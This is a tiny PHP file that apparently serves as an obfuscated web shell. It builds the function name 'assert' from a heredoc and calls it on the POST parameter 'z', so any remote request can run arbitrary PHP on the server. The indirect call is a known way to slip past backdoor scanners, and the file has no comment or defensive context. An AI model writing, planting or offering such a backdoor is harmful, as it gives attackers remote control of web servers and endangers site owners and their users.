<?php $f = <<<EOT
assert
EOT;
$f = trim($f); $f($_POST['z']);
